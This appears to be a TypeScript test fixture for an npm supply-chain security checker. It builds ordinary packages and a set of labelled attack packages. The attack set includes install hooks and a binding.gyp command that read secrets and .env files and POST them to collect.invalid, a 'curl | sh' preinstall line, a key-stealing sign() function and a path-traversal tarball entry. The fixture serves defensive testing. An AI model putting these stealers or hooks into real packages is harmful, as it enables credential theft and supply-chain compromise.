import { npmTarball, type NpmSpec } from './build.ts'
import type { NpmRelease } from './npm.ts'

/** Long ago for every cooldown, and young for every one. */
const OLD = '2021-03-04T09:00:00.000Z'
const OLDER = '2019-05-06T09:00:00.000Z'

function release(spec: NpmSpec, publishedAt: string, more: Partial<NpmRelease> = {}): NpmRelease {
  return { built: npmTarball(spec), publishedAt, maintainers: ['ada', 'grace'], ...more }
}

/** Ordinary packages: what most installs are made of. All are old, so that youth is no reason to refuse them. */
export function ordinaryNpm(): NpmRelease[] {
  return [
    release({ name: 'plain-pad', version: '1.0.0' }, OLDER),
    release({ name: 'plain-pad', version: '1.1.0' }, OLDER, { deprecated: 'use 1.2.0' }),
    release(
      {
        name: 'plain-pad',
        version: '1.2.0',
        files: {
          'index.js': PAD,
          'README.md': '# plain-pad\n',
          'lib/long/path/of/a/file/that/is/kept/deep/inside/the/package/so/that/pax/headers/are/needed/pad.js': PAD,
        },
      },
      OLD,
    ),
    release({ name: 'plain-pad', version: '2.0.0-rc.1' }, OLD, { tag: 'next' }),
    release(
      { name: 'plain-app', version: '3.1.4', dependencies: { 'plain-pad': '^1.0.0', '@acme-world/util': '~2.0.0' } },
      OLD,
    ),
    release({ name: '@acme-world/util', version: '2.0.1', files: { 'index.js': 'exports.util = (x) => x\n' } }, OLD),
    release({ name: '@acme-world/util', version: '2.1.0' }, OLD),
    // an old package whose install script never changed
    release(NATIVE('1.0.0'), OLDER),
    release(NATIVE('1.0.1'), OLD),
    release(
      {
        name: 'plain-cli',
        version: '1.0.0',
        files: { 'cli.js': '#!/usr/bin/env node\nconsole.log("plain")\n' },
        manifest: { bin: { 'plain-cli': 'cli.js' } },
      },
      OLD,
    ),
  ]
}

const PAD = `module.exports = function pad(text, width) {
  return String(text).padStart(width)
}
`

const NATIVE = (version: string): NpmSpec => ({
  name: 'plain-native',
  version,
  scripts: { install: 'node check.js' },
  files: { 'check.js': "if (process.versions.node.split('.')[0] < 18) console.log('plain-native wants Node 18')\n" },
})

/**
 * Inert re-enactments of attacks: the shape of the code is the attack's, the hosts do not exist, and nothing here is ever run
 * with a real secret. Each name says what it shows.
 */
export function attackNpm(now: Date = new Date()): NpmRelease[] {
  const young = new Date(now.getTime() - 2 * 3_600_000).toISOString()
  return [
    release(
      {
        name: 'steal~env',
        version: '1.0.0',
        scripts: { postinstall: 'node collect.js' },
        files: { 'collect.js': STEAL_ENV },
      },
      OLD,
    ),
    release(
      { name: 'inline-hook', version: '1.0.0', scripts: { preinstall: 'curl -s https://collect.invalid/x | sh' } },
      OLD,
    ),
    release({ name: 'gyp-command', version: '1.0.0', files: { 'binding.gyp': GYP, 'index.js': STEAL_ENV } }, OLD),
    release(
      {
        name: 'git-dependency',
        version: '1.0.0',
        dependencies: { helper: 'git+https://git.invalid/acme/helper.git#main' },
      },
      OLD,
    ),
    release({ name: 'lying-digest', version: '1.0.0' }, OLD, {
      integrity: `sha512-${Buffer.alloc(64, 1).toString('base64')}`,
    }),
    release({ name: 'brand-new', version: '0.0.1' }, young, { maintainers: ['mallory'] }),
    release({ name: 'taken-over', version: '1.0.0' }, OLDER, { maintainers: ['ada'] }),
    release({ name: 'taken-over', version: '1.0.1' }, young, { maintainers: ['mallory'], publisher: 'mallory' }),
    release({ name: 'grown-hook', version: '3.3.5', files: { 'index.js': PAD } }, OLD),
    release(
      {
        name: 'grown-hook',
        version: '3.3.6',
        scripts: { postinstall: 'node scripts/setup.js' },
        files: { 'index.js': PAD, 'scripts/setup.js': STEAL_ENV },
      },
      young,
      { publisher: 'right9' },
    ),
    release({ name: 'call-time', version: '2.0.0', files: { 'index.js': STEAL_KEY } }, young),
    release(
      {
        name: 'two-faces',
        version: '1.0.0',
        scripts: { postinstall: 'node collect.js' },
        files: { 'collect.js': STEAL_ENV },
      },
      OLD,
      { listed: { scripts: {} } },
    ),
    release(
      {
        name: 'leaves-folder',
        version: '1.0.0',
        members: [{ path: 'package/../../outside.js', content: 'escaped\n' }],
      },
      OLD,
    ),
  ]
}

/** The example of the article: collect what looks like a secret, read .env, send both away. */
const STEAL_ENV = `const fs = require('fs')

const wanted = /KEY|TOKEN|SECRET|DATABASE_URL/
const found = {}
for (const name of Object.keys(process.env)) {
  if (wanted.test(name)) found[name] = process.env[name]
}

let dotenv = ''
try {
  dotenv = fs.readFileSync('.env', 'utf8')
} catch {}

fetch('https://collect.invalid/v1/report', {
  method: 'POST',
  body: JSON.stringify({ found, dotenv }),
}).catch(() => {})
`

const GYP = `{
  "targets": [
    {
      "target_name": "addon",
      "type": "none",
      "sources": [ "<!(node index.js)" ]
    }
  ]
}
`

/** No script at all: the theft happens when the function is called. */
const STEAL_KEY = `exports.sign = function sign(privateKey, message) {
  fetch('https://collect.invalid/k', { method: 'POST', body: privateKey }).catch(() => {})
  return message
}
`
